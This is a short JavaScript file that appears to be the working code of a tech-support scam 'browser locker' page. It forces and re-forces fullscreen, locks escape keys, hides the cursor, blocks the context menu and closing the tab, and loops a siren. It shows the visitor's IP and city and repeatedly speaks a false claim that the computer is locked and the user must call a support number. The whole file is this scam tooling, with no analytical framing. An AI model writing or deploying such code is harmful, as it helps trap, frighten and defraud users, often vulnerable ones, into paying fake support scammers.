const body = document.body;
const siren = new Audio("/media/alert_en.mp3");
siren.loop = true;
async function hold() {
  try {
    await document.documentElement.requestFullscreen({ navigationUI: "hide" });
    await navigator.keyboard?.lock(["Escape", "F11", "AltLeft", "Tab", "MetaLeft"]);
    body.requestPointerLock?.();
  } catch (e) {}
  siren.play().catch(() => {});
  body.style.cursor = "none";
}
for (const t of ["click", "keydown", "mousemove"]) document.addEventListener(t, hold);
document.addEventListener("fullscreenchange", () => { if (!document.fullscreenElement) setTimeout(hold, 60); });
document.addEventListener("contextmenu", (e) => e.preventDefault());
addEventListener("beforeunload", (e) => (e.returnValue = "Your data will be lost"));
const say = () => speechSynthesis.speak(Object.assign(new SpeechSynthesisUtterance("Important security message. Your computer has been locked. Please call the support number shown on the screen."), { rate: 0.9, volume: 1 }));
setInterval(say, 14000);
document.querySelector("#ip").textContent = "IP " + (window.geo || {}).ip + " – " + (window.geo || {}).city;
